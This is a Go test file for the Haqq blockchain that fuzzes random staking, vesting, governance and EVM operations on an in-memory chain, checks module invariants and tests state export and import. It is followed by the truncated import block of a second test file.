	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/encoding"
	distprecompile "github.com/haqq-network/haqq/precompiles/distribution"
	stakingprecompile "github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/contracts"
	haqqtypes "github.com/haqq-network/haqq/types"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	"github.com/haqq-network/haqq/utils"
	liquidvestingtypes "github.com/haqq-network/haqq/x/liquidvesting/types"
	ucdaotypes "github.com/haqq-network/haqq/x/ucdao/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

type hVal struct {
	pv       mock.PV
	cons     sdk.ConsAddress
	oper     sdk.AccAddress
	down     bool
	tomb     bool
	consPub  *codectypes.Any
	existing bool
}

type harness struct {
	t      *testing.T
	app    *Haqq
	header tmproto.Header
	ctx    sdk.Context
	rng    *rand.Rand

	vals   []*hVal
	users  []sdk.AccAddress
	extra  []sdk.AccAddress // addresses created on the way (vesting accounts)
	tmVals map[string]int64 // cons addr (string of bytes) -> power, as told to tendermint
	stats  map[string][2]int
	broken []string
}

var one18 = sdkmath.NewIntWithDecimal(1, 18)

func isl(n int64) sdkmath.Int { return one18.MulRaw(n) }

func newAddr(rng *rand.Rand) sdk.AccAddress {
	b := make([]byte, 20)
	rng.Read(b)
	return sdk.AccAddress(b)
}

func newHarness(t *testing.T, seed int64) *harness {
	rng := rand.New(rand.NewSource(seed))
	chainID := utils.MainNetChainID + "-1"
	h := &harness{t: t, rng: rng, tmVals: map[string]int64{}, stats: map[string][2]int{}}

	db := dbm.NewMemDB()
	h.app = NewHaqq(
		log.NewNopLogger(), db, nil, true, map[int64]bool{},
		DefaultNodeHome, 0,
		encoding.MakeConfig(ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(DefaultNodeHome),
		baseapp.SetChainID(chainID),
	)
	cdc := h.app.AppCodec()
	gs := NewDefaultGenesisState()

	var genAccs []authtypes.GenesisAccount
	var balances []banktypes.Balance
	mkAcc := func(a sdk.AccAddress) authtypes.GenesisAccount {
		return &haqqtypes.EthAccount{
			BaseAccount: authtypes.NewBaseAccount(a, nil, 0, 0),
			CodeHash:    common.BytesToHash(emptyCodeHashForTest).String(),
		}
	}

	const nVals = 4
	selfBond := isl(100)
	var sVals []stakingtypes.Validator
	var sDels []stakingtypes.Delegation
	for i := 0; i < nVals; i++ {
		pv := mock.NewPV()
		pk, _ := pv.GetPubKey()
		sdkPk, err := cryptocodec.FromTmPubKeyInterface(pk)
		require.NoError(t, err)
		pkAny, err := codectypes.NewAnyWithValue(sdkPk)
		require.NoError(t, err)
		oper := newAddr(rng)
		v := &hVal{pv: pv, cons: sdk.ConsAddress(pk.Address()), oper: oper, consPub: pkAny, existing: true}
		h.vals = append(h.vals, v)
		genAccs = append(genAccs, mkAcc(oper))
		balances = append(balances, banktypes.Balance{Address: oper.String(), Coins: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, isl(1000)))})
		sVals = append(sVals, stakingtypes.Validator{
			OperatorAddress:   sdk.ValAddress(oper).String(),
			ConsensusPubkey:   pkAny,
			Status:            stakingtypes.Bonded,
			Tokens:            selfBond,
			DelegatorShares:   sdk.NewDecFromInt(selfBond),
			Description:       stakingtypes.Description{Moniker: "v" + strconv.Itoa(i)},
			UnbondingTime:     time.Unix(0, 0).UTC(),
			Commission:        stakingtypes.NewCommission(sdk.NewDecWithPrec(1, 1), sdk.OneDec(), sdk.OneDec()),
			MinSelfDelegation: sdkmath.OneInt(),
		})
		sDels = append(sDels, stakingtypes.NewDelegation(oper, sdk.ValAddress(oper), sdk.NewDecFromInt(selfBond)))
		h.tmVals[string(v.cons)] = 100
	}
	for i := 0; i < 8; i++ {
		u := newAddr(rng)
		h.users = append(h.users, u)
		genAccs = append(genAccs, mkAcc(u))
		balances = append(balances, banktypes.Balance{Address: u.String(), Coins: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, isl(100000)))})
	}
	balances = append(balances, banktypes.Balance{
		Address: authtypes.NewModuleAddress(stakingtypes.BondedPoolName).String(),
		Coins:   sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, selfBond.MulRaw(nVals))),
	})

	gs[authtypes.ModuleName] = cdc.MustMarshalJSON(authtypes.NewGenesisState(authtypes.DefaultParams(), genAccs))

	sp := stakingtypes.DefaultParams()
	sp.BondDenom = utils.BaseDenom
	sp.UnbondingTime = 40 * time.Second
	sp.MaxValidators = uint32(4 + rng.Intn(2))
	sp.MaxEntries = uint32(2 + rng.Intn(6))
	gs[stakingtypes.ModuleName] = cdc.MustMarshalJSON(stakingtypes.NewGenesisState(sp, sVals, sDels))

	total := sdk.NewCoins()
	for _, b := range balances {
		total = total.Add(b.Coins...)
	}
	gs[banktypes.ModuleName] = cdc.MustMarshalJSON(banktypes.NewGenesisState(banktypes.DefaultGenesisState().Params, balances, total, nil, nil))

	slp := slashingtypes.DefaultParams()
	slp.SignedBlocksWindow = 10
	slp.MinSignedPerWindow = sdk.NewDecWithPrec(5, 1)
	slp.DowntimeJailDuration = 60 * time.Second
	fr := []sdk.Dec{sdk.ZeroDec(), sdk.NewDecWithPrec(1, 2), sdk.NewDecWithPrec(5, 1), sdk.OneDec(), sdk.NewDecWithPrec(333333333333333333, 18)}
	slp.SlashFractionDowntime = fr[rng.Intn(len(fr))]
	slp.SlashFractionDoubleSign = fr[rng.Intn(len(fr))]
	dp := distrtypes.DefaultParams()
	dp.CommunityTax = []sdk.Dec{sdk.ZeroDec(), sdk.NewDecWithPrec(2, 2), sdk.OneDec()}[rng.Intn(3)]
	dgs := distrtypes.DefaultGenesisState()
	dgs.Params = dp
	gs[distrtypes.ModuleName] = cdc.MustMarshalJSON(dgs)
	var infos []slashingtypes.SigningInfo
	for _, v := range h.vals {
		infos = append(infos, slashingtypes.SigningInfo{
			Address:              v.cons.String(),
			ValidatorSigningInfo: slashingtypes.NewValidatorSigningInfo(v.cons, 0, 0, time.Unix(0, 0).UTC(), false, 0),
		})
	}
	gs[slashingtypes.ModuleName] = cdc.MustMarshalJSON(slashingtypes.NewGenesisState(slp, infos, nil))

	gp := govv1.DefaultParams()
	gp.MinDeposit = sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, isl(10)))
	d := 20 * time.Second
	gp.MaxDepositPeriod = &d
	gp.VotingPeriod = &d
	gp.BurnVoteQuorum = true
	gp.BurnProposalDepositPrevote = true
	gp.BurnVoteVeto = true
	gs[govtypes.ModuleName] = cdc.MustMarshalJSON(govv1.NewGenesisState(1, gp))

	stateBytes, err := json.MarshalIndent(gs, "", " ")
	require.NoError(t, err)
	now := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	h.app.InitChain(abci.RequestInitChain{
		Time: now, ChainId: chainID, Validators: []abci.ValidatorUpdate{},
		ConsensusParams: DefaultConsensusParams, AppStateBytes: stateBytes,
	})
	h.app.Commit()
	h.header = tmproto.Header{ChainID: chainID, Height: h.app.LastBlockHeight(), Time: now}
	return h
}

var emptyCodeHashForTest = common.FromHex("0xc5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470")

func (h *harness) beginBlock(dt time.Duration, byz []abci.Misbehavior) {
	h.header.Height++
	h.header.Time = h.header.Time.Add(dt)
	h.header.AppHash = h.app.LastCommitID().Hash
	var votes []abci.VoteInfo
	var proposer []byte
	for _, v := range h.vals {
		p, ok := h.tmVals[string(v.cons)]
		if !ok || p == 0 {
			continue
		}
		if proposer == nil && !v.down {
			proposer = v.cons
		}
		votes = append(votes, abci.VoteInfo{Validator: abci.Validator{Address: v.cons, Power: p}, SignedLastBlock: !v.down})
	}
	if proposer == nil && len(votes) > 0 {
		proposer = votes[0].Validator.Address
	}
	if proposer == nil {
		proposer = h.vals[0].cons
	}
	h.header.ProposerAddress = proposer
	h.app.BeginBlock(abci.RequestBeginBlock{
		Header:              h.header,
		LastCommitInfo:      abci.CommitInfo{Votes: votes},
		ByzantineValidators: byz,
	})
	h.ctx = h.app.BaseApp.NewContext(false, h.header)
}

func (h *harness) endBlock() {
	res := h.app.EndBlock(abci.RequestEndBlock{Height: h.header.Height})
	for _, u := range res.ValidatorUpdates {
		pk, err := cryptocodec.FromTmProtoPublicKey(u.PubKey)
		require.NoError(h.t, err)
		cons := sdk.ConsAddress(pk.Address())
		if u.Power == 0 {
			delete(h.tmVals, string(cons))
		} else {
			h.tmVals[string(cons)] = u.Power
		}
	}
	h.checkInvariants("after EndBlock")
	h.app.Commit()
}

func (h *harness) checkInvariants(when string) {
	ctx, _ := h.ctx.CacheContext()
	for _, r := range h.app.CrisisKeeper.Routes() {
		msg, stop := r.Invar(ctx)
		if stop {
			h.broken = append(h.broken, fmt.Sprintf("height %d (%s): %s/%s: %s", h.header.Height, when, r.ModuleName, r.Route, msg))
		}
	}
}

// tx emulates the delivery of a transaction: a fee is paid whatever happens, the messages
// run on a branch of the state that is written only if all of them succeed.
func (h *harness) tx(name string, signer sdk.AccAddress, msgs ...sdk.Msg) (err error) {
	fee := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1, 15)))
	_ = h.app.BankKeeper.SendCoinsFromAccountToModule(h.ctx, signer, authtypes.FeeCollectorName, fee)
	cctx, write := h.ctx.CacheContext()
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic: %v", r)
		}
		s := h.stats[name]
		if err == nil {
			s[0]++
		} else {
			s[1]++
			if os.Getenv("HUNT_VERBOSE") != "" {
				h.t.Logf("h=%d %s failed: %v", h.header.Height, name, err)
			}
		}
		h.stats[name] = s
	}()
	for _, m := range msgs {
		if err = m.ValidateBasic(); err != nil {
			return err
		}
		handler := h.app.MsgServiceRouter().Handler(m)
		if handler == nil {
			return fmt.Errorf("no handler for %T", m)
		}
		if _, err = handler(cctx, m); err != nil {
			return err
		}
	}
	write()
	return nil
}

func (h *harness) evm(name string, from sdk.AccAddress, to common.Address, data []byte) (err error) {
	cctx, write := h.ctx.CacheContext()
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic: %v", r)
		}
		s := h.stats[name]
		if err == nil {
			s[0]++
		} else {
			s[1]++
			if os.Getenv("HUNT_VERBOSE") != "" {
				h.t.Logf("h=%d %s failed: %v", h.header.Height, name, err)
			}
		}
		h.stats[name] = s
	}()
	res, err := h.app.Erc20Keeper.CallEVMWithData(cctx, common.BytesToAddress(from), &to, data, true)
	if err != nil {
		return err
	}
	if res.Failed() {
		return fmt.Errorf("vm error: %s", res.VmError)
	}
	write()
	return nil
}

func (h *harness) anyAddr() sdk.AccAddress {
	n := len(h.users) + len(h.extra) + len(h.vals)
	i := h.rng.Intn(n)
	if i < len(h.users) {
		return h.users[i]
	}
	i -= len(h.users)
	if i < len(h.extra) {
		return h.extra[i]
	}
	return h.vals[i-len(h.extra)].oper
}

func (h *harness) anyVal() *hVal {
	for i := 0; i < 50; i++ {
		v := h.vals[h.rng.Intn(len(h.vals))]
		if _, found := h.app.StakingKeeper.GetValidator(h.ctx, sdk.ValAddress(v.oper)); found {
			return v
		}
	}
	return h.vals[0]
}

func (h *harness) amount(addr sdk.AccAddress, maxISLM int64) sdk.Coin {
	bal := h.app.BankKeeper.GetBalance(h.ctx, addr, utils.BaseDenom).Amount
	a := sdkmath.NewInt(h.rng.Int63n(maxISLM*1000) + 1).Mul(sdkmath.NewIntWithDecimal(1, 15))
	if h.rng.Intn(10) == 0 {
		a = sdkmath.NewInt(h.rng.Int63n(1000) + 1) // dust
	}
	if a.GT(bal) && bal.IsPositive() && h.rng.Intn(2) == 0 {
		a = bal
	}
	return sdk.NewCoin(utils.BaseDenom, a)
}

func (h *harness) randomOp() {
	stakingABI, _ := stakingprecompile.LoadABI()
	stakingAddr := common.HexToAddress(stakingprecompile.PrecompileAddress)
	distAddr := common.HexToAddress("0x0000000000000000000000000000000000000801")
	govAddr := authtypes.NewModuleAddress(govtypes.ModuleName)
	ctx := h.ctx
	a := h.anyAddr()
	v := h.anyVal()
	valAddr := sdk.ValAddress(v.oper)
	op := h.rng.Intn(30)
	if a.Equals(h.vals[0].oper) && (op == 4 || op == 5 || op == 12) {
		return
	}
	switch op {
	case 0:
		_ = h.tx("send", a, banktypes.NewMsgSend(a, h.anyAddr(), sdk.NewCoins(h.amount(a, 100))))
	case 1, 2, 3:
		_ = h.tx("delegate", a, stakingtypes.NewMsgDelegate(a, valAddr, h.amount(a, 200)))
	case 4, 5:
		dels := h.app.StakingKeeper.GetDelegatorDelegations(ctx, a, 10)
		if len(dels) == 0 {
			return
		}
		d := dels[h.rng.Intn(len(dels))]
		val, _ := h.app.StakingKeeper.GetValidator(ctx, d.GetValidatorAddr())
		tokens := val.TokensFromShares(d.Shares).TruncateInt()
		if !tokens.IsPositive() {
			return
		}
		amt := tokens
		if h.rng.Intn(3) > 0 {
			amt = sdkmath.NewIntFromBigInt(new(big.Int).Rand(h.rng, tokens.BigInt())).AddRaw(1)
		}
		if h.rng.Intn(2) == 0 {
			_ = h.tx("undelegate", a, stakingtypes.NewMsgUndelegate(a, d.GetValidatorAddr(), sdk.NewCoin(utils.BaseDenom, amt)))
		} else {
			_ = h.tx("redelegate", a, stakingtypes.NewMsgBeginRedelegate(a, d.GetValidatorAddr(), valAddr, sdk.NewCoin(utils.BaseDenom, amt)))
		}
	case 6:
		ubds := h.app.StakingKeeper.GetUnbondingDelegations(ctx, a, 10)
		if len(ubds) == 0 {
			return
		}
		u := ubds[h.rng.Intn(len(ubds))]
		e := u.Entries[h.rng.Intn(len(u.Entries))]
		if !e.Balance.IsPositive() {
			return
		}
		amt := sdkmath.NewIntFromBigInt(new(big.Int).Rand(h.rng, e.Balance.BigInt())).AddRaw(1)
		va, _ := sdk.ValAddressFromBech32(u.ValidatorAddress)
		_ = h.tx("cancel-unbonding", a, stakingtypes.NewMsgCancelUnbondingDelegation(a, va, e.CreationHeight, sdk.NewCoin(utils.BaseDenom, amt)))
	case 7:
		dels := h.app.StakingKeeper.GetDelegatorDelegations(ctx, a, 10)
		if len(dels) == 0 {
			return
		}
		_ = h.tx("withdraw-rewards", a, distrtypes.NewMsgWithdrawDelegatorReward(a, dels[h.rng.Intn(len(dels))].GetValidatorAddr()))
	case 8:
		_ = h.tx("withdraw-commission", v.oper, distrtypes.NewMsgWithdrawValidatorCommission(valAddr))
	case 9:
		_ = h.tx("set-withdraw-addr", a, distrtypes.NewMsgSetWithdrawAddress(a, h.anyAddr()))
	case 10:
		_ = h.tx("fund-community-pool", a, distrtypes.NewMsgFundCommunityPool(sdk.NewCoins(h.amount(a, 50)), a))
	case 11:
		// EVM: delegate through the staking precompile, called directly by the delegator
		data, err := stakingABI.Pack(stakingprecompile.DelegateMethod, common.BytesToAddress(a), valAddr.String(), h.amount(a, 200).Amount.BigInt())
		require.NoError(h.t, err)
		_ = h.evm("evm-delegate", a, stakingAddr, data)
	case 12:
		dels := h.app.StakingKeeper.GetDelegatorDelegations(ctx, a, 10)
		if len(dels) == 0 {
			return
		}
		d := dels[h.rng.Intn(len(dels))]
		val, _ := h.app.StakingKeeper.GetValidator(ctx, d.GetValidatorAddr())
		tokens := val.TokensFromShares(d.Shares).TruncateInt()
		if !tokens.IsPositive() {
			return
		}
		amt := new(big.Int).Add(new(big.Int).Rand(h.rng, tokens.BigInt()), big.NewInt(1))
		if h.rng.Intn(2) == 0 {
			data, err := stakingABI.Pack(stakingprecompile.UndelegateMethod, common.BytesToAddress(a), d.ValidatorAddress, amt)
			require.NoError(h.t, err)
			_ = h.evm("evm-undelegate", a, stakingAddr, data)
		} else {
			data, err := stakingABI.Pack(stakingprecompile.RedelegateMethod, common.BytesToAddress(a), d.ValidatorAddress, valAddr.String(), amt)
			require.NoError(h.t, err)
			_ = h.evm("evm-redelegate", a, stakingAddr, data)
		}
	case 13:
		dp, err := distprecompile.NewPrecompile(h.app.DistrKeeper, h.app.StakingKeeper, h.app.AuthzKeeper)
		require.NoError(h.t, err)
		data, err := dp.ABI.Pack(distprecompile.ClaimRewardsMethod, common.BytesToAddress(a), uint32(4))
		require.NoError(h.t, err)
		_ = h.evm("evm-claim-rewards", a, distAddr, data)
	case 14:
		// plain EVM value transfer, possibly to a module account
		to := h.anyAddr()
		if h.rng.Intn(4) == 0 {
			mods := []string{stakingtypes.BondedPoolName, stakingtypes.NotBondedPoolName, distrtypes.ModuleName, govtypes.ModuleName}
			to = authtypes.NewModuleAddress(mods[h.rng.Intn(len(mods))])
		}
		_ = h.evmValue("evm-transfer", a, common.BytesToAddress(to), h.amount(a, 10).Amount.BigInt())
	case 15:
		// new clawback vesting account
		to := newAddr(h.rng)
		amt := sdk.NewCoins(h.amount(a, 500))
		lock := sdkvesting.Periods{{Length: int64(h.rng.Intn(100) + 1), Amount: amt}}
		vest := sdkvesting.Periods{{Length: int64(h.rng.Intn(60) + 1), Amount: amt}}
		if h.tx("create-clawback", a, vestingtypes.NewMsgCreateClawbackVestingAccount(a, to, ctx.BlockTime(), lock, vest, false)) == nil {
			h.extra = append(h.extra, to)
		}
	case 16:
		to := h.anyAddr()
		if h.rng.Intn(2) == 0 {
			to = newAddr(h.rng)
		}
		amt := sdk.NewCoins(h.amount(a, 5000))
		lock := sdkvesting.Periods{{Length: int64(h.rng.Intn(200) + 1), Amount: amt}}
		vest := sdkvesting.Periods{{Length: 1, Amount: amt}}
		start := ctx.BlockTime().Add(-time.Duration(h.rng.Intn(5)) * time.Second)
		stake := h.rng.Intn(2) == 0
		if h.tx("convert-into-vesting", a, vestingtypes.NewMsgConvertIntoVestingAccount(a, to, start, lock, vest, true, stake, valAddr)) == nil {
			h.extra = append(h.extra, to)
		}
	case 17:
		acc := h.app.AccountKeeper.GetAccount(ctx, a)
		if va, ok := acc.(*vestingtypes.ClawbackVestingAccount); ok {
			funder := sdk.MustAccAddressFromBech32(va.FunderAddress)
			var dest sdk.AccAddress
			if h.rng.Intn(2) == 0 {
				dest = h.anyAddr()
			}
			_ = h.tx("clawback", funder, vestingtypes.NewMsgClawback(funder, a, dest))
		}
	case 18:
		acc := h.app.AccountKeeper.GetAccount(ctx, a)
		if va, ok := acc.(*vestingtypes.ClawbackVestingAccount); ok {
			locked := va.GetLockedUpCoins(ctx.BlockTime()).AmountOf(utils.BaseDenom)
			if !locked.IsPositive() {
				_ = h.tx("convert-vesting-account", a, vestingtypes.NewMsgConvertVestingAccount(a))
				return
			}
			amt := sdkmath.NewIntFromBigInt(new(big.Int).Rand(h.rng, locked.BigInt())).AddRaw(1)
			if minAmt := isl(1000); amt.LT(minAmt) {
				amt = sdk.MinInt(minAmt, locked)
			}
			_ = h.tx("liquidate", a, liquidvestingtypes.NewMsgLiquidate(a, h.anyAddr(), sdk.NewCoin(utils.BaseDenom, amt)))
		}
	case 19:
		// redeem a liquid token (bank or erc20 side)
		for _, d := range h.app.LiquidVestingKeeper.GetAllDenoms(ctx) {
			holder := h.anyAddr()
			total := d.LockupPeriods.TotalAmount().AmountOf(d.OriginalDenom)
			if !total.IsPositive() {
				continue
			}
			amt := sdkmath.NewIntFromBigInt(new(big.Int).Rand(h.rng, total.BigInt())).AddRaw(1)
			_ = h.tx("redeem", holder, liquidvestingtypes.NewMsgRedeem(holder, h.anyAddr(), sdk.NewCoin(d.BaseDenom, amt)))
			break
		}
	case 20:
		_ = h.tx("ucdao-fund", a, ucdaotypes.NewMsgFund(sdk.NewCoins(h.amount(a, 50)), a))
	case 21:
		_ = h.tx("ucdao-transfer", a, ucdaotypes.NewMsgTransferOwnership(a, h.anyAddr()))
	case 22:
		var msgs []sdk.Msg
		if h.rng.Intn(2) == 0 {
			msgs = append(msgs, &distrtypes.MsgCommunityPoolSpend{
				Authority: govAddr.String(), Recipient: h.anyAddr().String(),
				Amount: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(h.rng.Int63n(1_000_000_000)+1))),
			})
		}
		dep := sdk.NewCoins(h.amount(a, 20))
		m, err := govv1.NewMsgSubmitProposal(msgs, dep, a.String(), "meta", "title", "summary")
		require.NoError(h.t, err)
		_ = h.tx("gov-submit", a, m)
	case 23, 24:
		props := h.app.GovKeeper.GetProposals(ctx)
		if len(props) == 0 {
			return
		}
		p := props[h.rng.Intn(len(props))]
		switch p.Status {
		case govv1.StatusDepositPeriod:
			_ = h.tx("gov-deposit", a, govv1.NewMsgDeposit(a, p.Id, sdk.NewCoins(h.amount(a, 20))))
		case govv1.StatusVotingPeriod:
			// validators vote with weight; let a validator operator vote most of the time
			voter := a
			if h.rng.Intn(3) > 0 {
				voter = v.oper
			}
			opts := []govv1.VoteOption{govv1.OptionYes, govv1.OptionNo, govv1.OptionNoWithVeto, govv1.OptionAbstain}
			_ = h.tx("gov-vote", voter, govv1.NewMsgVote(voter, p.Id, opts[h.rng.Intn(len(opts))], ""))
			if h.rng.Intn(2) == 0 {
				o := opts[h.rng.Intn(len(opts))]
				for _, vv := range h.vals {
					_ = h.tx("gov-vote", vv.oper, govv1.NewMsgVote(vv.oper, p.Id, o, ""))
				}
			}
			if h.rng.Intn(3) == 0 {
				_ = h.tx("gov-deposit", a, govv1.NewMsgDeposit(a, p.Id, sdk.NewCoins(h.amount(a, 20))))
			}
		}
	case 25:
		// new validator
		if len(h.vals) >= 7 {
			return
		}
		oper := h.users[h.rng.Intn(len(h.users))]
		if _, found := h.app.StakingKeeper.GetValidator(ctx, sdk.ValAddress(oper)); found {
			return
		}
		pv := mock.NewPV()
		pk, _ := pv.GetPubKey()
		sdkPk, _ := cryptocodec.FromTmPubKeyInterface(pk)
		m, err := stakingtypes.NewMsgCreateValidator(sdk.ValAddress(oper), sdkPk, h.amount(oper, 300),
			stakingtypes.Description{Moniker: "new"}, stakingtypes.NewCommissionRates(sdk.NewDecWithPrec(5, 2), sdk.OneDec(), sdk.OneDec()), sdkmath.OneInt())
		require.NoError(h.t, err)
		if h.tx("create-validator", oper, m) == nil {
			pkAny, _ := codectypes.NewAnyWithValue(sdkPk)
			h.vals = append(h.vals, &hVal{pv: pv, cons: sdk.ConsAddress(pk.Address()), oper: oper, consPub: pkAny, existing: true})
		}
	case 26:
		_ = h.tx("unjail", v.oper, slashingtypes.NewMsgUnjail(valAddr))
	case 27:
		// toggle downtime
		if h.rng.Intn(3) == 0 && v != h.vals[0] {
			v.down = !v.down
		}
	case 28:
		// move a liquid token between its bank and its ERC20 representation
		for _, d := range h.app.LiquidVestingKeeper.GetAllDenoms(ctx) {
			if h.rng.Intn(2) == 0 {
				continue
			}
			holder := h.anyAddr()
			id := h.app.Erc20Keeper.GetTokenPairID(ctx, d.BaseDenom)
			pair, ok := h.app.Erc20Keeper.GetTokenPair(ctx, id)
			if !ok {
				continue
			}
			bal := h.app.BankKeeper.GetBalance(ctx, holder, d.BaseDenom)
			if bal.IsPositive() {
				_ = h.tx("erc20-convert-coin", holder, erc20types.NewMsgConvertCoin(bal, common.BytesToAddress(h.anyAddr()), holder))
			} else {
				ebal := h.app.Erc20Keeper.BalanceOf(ctx, contracts.ERC20MinterBurnerDecimalsContract.ABI, pair.GetERC20Contract(), common.BytesToAddress(holder))
				if ebal != nil && ebal.Sign() > 0 {
					_ = h.tx("erc20-convert-erc20", holder, erc20types.NewMsgConvertERC20(sdkmath.NewIntFromBigInt(ebal), h.anyAddr(), pair.GetERC20Contract(), common.BytesToAddress(holder)))
				}
			}
			break
		}
	case 29:
		acc := h.app.AccountKeeper.GetAccount(ctx, a)
		if va, ok := acc.(*vestingtypes.ClawbackVestingAccount); ok {
			funder := sdk.MustAccAddressFromBech32(va.FunderAddress)
			_ = h.tx("update-funder", funder, vestingtypes.NewMsgUpdateVestingFunder(funder, h.anyAddr(), a))
			return
		}
		c := sdk.NewCoins(h.amount(a, 10))
		_ = h.tx("multisend", a, banktypes.NewMsgMultiSend([]banktypes.Input{banktypes.NewInput(a, c)}, []banktypes.Output{banktypes.NewOutput(h.anyAddr(), c)}))
	default:
	}
}

func (h *harness) evmValue(name string, from sdk.AccAddress, to common.Address, value *big.Int) (err error) {
	// CallEVMWithData sends no value; use a raw message through the EVM keeper instead
	cctx, write := h.ctx.CacheContext()
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic: %v", r)
		}
		s := h.stats[name]
		if err == nil {
			s[0]++
		} else {
			s[1]++
		}
		h.stats[name] = s
	}()
	res, err := huntApplyValueMessage(cctx, h.app, common.BytesToAddress(from), to, value)
	if err != nil {
		return err
	}
	if res {
		return fmt.Errorf("vm error")
	}
	write()
	return nil
}

func (h *harness) run(blocks int) {
	for i := 0; i < blocks; i++ {
		var byz []abci.Misbehavior
		if h.rng.Intn(25) == 0 && h.header.Height > 5 {
			v := h.anyVal()
			if p, ok := h.tmVals[string(v.cons)]; ok && !v.tomb && v != h.vals[0] {
				back := int64(h.rng.Intn(4) + 1)
				byz = append(byz, abci.Misbehavior{
					Type:             abci.MisbehaviorType_DUPLICATE_VOTE,
					Validator:        abci.Validator{Address: v.cons, Power: p},
					Height:           h.header.Height - back,
					Time:             h.header.Time.Add(-time.Duration(back) * time.Second),
					TotalVotingPower: 0,
				})
				v.tomb = true
				st := h.stats["evidence"]
				st[0]++
				h.stats["evidence"] = st
			}
		}
		dt := time.Duration(h.rng.Intn(6)+1) * time.Second
		if h.rng.Intn(15) == 0 {
			dt = 45 * time.Second
		}
		h.beginBlock(dt, byz)
		h.checkInvariants("after BeginBlock")
		nOps := h.rng.Intn(8)
		for j := 0; j < nOps; j++ {
			h.randomOp()
		}
		h.endBlock()
		if len(h.broken) > 0 {
			return
		}
	}
}

func TestZZHuntC15eRandomHistories(t *testing.T) {
	seeds := 6
	blocks := 250
	if s := os.Getenv("HUNT_SEEDS"); s != "" {
		seeds, _ = strconv.Atoi(s)
	}
	if s := os.Getenv("HUNT_BLOCKS"); s != "" {
		blocks, _ = strconv.Atoi(s)
	}
	base := int64(1)
	if s := os.Getenv("HUNT_BASE"); s != "" {
		b, _ := strconv.Atoi(s)
		base = int64(b)
	}
	for s := base; s < base+int64(seeds); s++ {
		h := newHarness(t, s)
		h.run(blocks)
		t.Logf("seed %d: height %d stats(ok,fail) %v", s, h.header.Height, h.stats)
		if len(h.broken) == 0 {
			for _, zero := range []bool{false, true} {
				if err := h.exportImport(zero); err != nil {
					t.Errorf("seed %d: export(zeroHeight=%v)/import: %v", s, zero, err)
				}
			}
		}
		for _, b := range h.broken {
			t.Errorf("seed %d: invariant broken: %s", s, b)
		}
	}
}

func huntApplyValueMessage(ctx sdk.Context, a *Haqq, from, to common.Address, value *big.Int) (failed bool, err error) {
	nonce, err := a.AccountKeeper.GetSequence(ctx, from.Bytes())
	if err != nil {
		return false, err
	}
	msg := ethtypes.NewMessage(from, &to, nonce, value, 100000, big.NewInt(0), big.NewInt(0), big.NewInt(0), nil, ethtypes.AccessList{}, false)
	res, err := a.EvmKeeper.ApplyMessage(ctx, msg, evmtypes.NewNoOpTracer(), true)
	if err != nil {
		return false, err
	}
	return res.Failed(), nil
}


// exportImport exports the state (it must be the last thing done with the harness when forZeroHeight is set:
// the zero-height preparation writes to the state) and starts a new chain from it.
func (h *harness) exportImport(forZeroHeight bool) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic: %v", r)
		}
	}()
	exported, err := h.app.ExportAppStateAndValidators(forZeroHeight, nil, nil)
	if err != nil {
		return err
	}
	chainID := utils.MainNetChainID + "-1"
	app2 := NewHaqq(
		log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
		DefaultNodeHome, 0,
		encoding.MakeConfig(ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(DefaultNodeHome),
		baseapp.SetChainID(chainID),
	)
	var gs haqqtypes.GenesisState
	if err := json.Unmarshal(exported.AppState, &gs); err != nil {
		return err
	}
	for name, b := range ModuleBasics {
		hg, ok := b.(module.HasGenesisBasics)
		if !ok || name == "ibc" { // ibc-go exports its localhost connection, which its own validation refuses

			continue
		}
		if err := hg.ValidateGenesis(app2.AppCodec(), encoding.MakeConfig(ModuleBasics).TxConfig, gs[name]); err != nil {
			return fmt.Errorf("validate genesis of %s: %w", name, err)
		}
	}
	app2.InitChain(abci.RequestInitChain{
		Time: h.header.Time, ChainId: chainID, Validators: []abci.ValidatorUpdate{},
		ConsensusParams: DefaultConsensusParams, AppStateBytes: exported.AppState,
		InitialHeight: exported.Height,
	})
	app2.Commit()
	hdr := tmproto.Header{ChainID: chainID, Height: app2.LastBlockHeight() + 1, Time: h.header.Time.Add(time.Second)}
	ctx := app2.BaseApp.NewContext(true, hdr)
	for _, r := range app2.CrisisKeeper.Routes() {
		if msg, stop := r.Invar(ctx); stop {
			return fmt.Errorf("invariant broken after import: %s/%s: %s", r.ModuleName, r.Route, msg)
		}
	}
	return nil
}
