package keeper_test

import (
	"fmt"
	"math/rand"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simutils "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	evidencetypes "github.com/cosmos/cosmos-sdk/x/evidence/types"
	"github.com/cosmos/cosmos-sdk/x/gov"
	govkeeper "github.com/cosmos/cosmos-sdk/x/gov/keeper"
